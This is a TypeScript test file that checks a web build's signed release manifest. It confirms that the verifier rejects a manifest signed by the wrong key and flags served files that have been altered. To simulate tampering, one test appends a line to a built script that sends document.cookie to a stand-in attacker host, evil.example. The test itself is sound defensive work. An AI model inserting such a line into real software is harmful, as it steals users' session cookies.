// A signed release manifest (issue #16): the relay serves the signer's manifest of the build, and
// `npm run release:verify` checks every served file against it with the pinned release key. A relay that serves
// altered code, or a manifest signed by another key, is caught.
import { appendFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateReleaseKey, signDist, verifyRelease } from '../../../scripts/release';
import { startTestRelay, type TestRelay } from '../support/relay';
import { buildWeb, removeBuild } from '../e2e/harness';

let dist: string;
let relay: TestRelay;
const key = generateReleaseKey();

beforeAll(async () => {
  dist = buildWeb();
  signDist(dist, key.privateKeyPem);
  relay = await startTestRelay({ WEB_DIST: dist });
}, 180_000);

afterAll(async () => {
  await relay?.close();
  removeBuild(dist);
});

describe('a signed release manifest', () => {
  it('is served at /.well-known/weconnect/manifest.json and verifies every served file with the release key', async () => {
    const res = await fetch(new URL('/.well-known/weconnect/manifest.json', relay.url));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(await verifyRelease(relay.url, key.publicKey)).toEqual([]);
  });

  it('refuses a manifest signed by another key', async () => {
    const other = generateReleaseKey();
    expect(await verifyRelease(relay.url, other.publicKey)).toEqual([
      'the manifest signature does not verify with the release key',
    ]);
  });

  it('names a file the relay serves altered', async () => {
    const script = readdirSync(join(dist, 'assets')).find((f) => f.startsWith('index-') && f.endsWith('.js'))!;
    expect(await verifyRelease(relay.url, key.publicKey)).toEqual([]); // baseline
    appendFileSync(join(dist, 'assets', script), '\n;fetch("https://evil.example/"+document.cookie);\n');
    expect(await verifyRelease(relay.url, key.publicKey)).toEqual([
      `assets/${script}: served bytes differ from the signed build`,
    ]);
  });
});
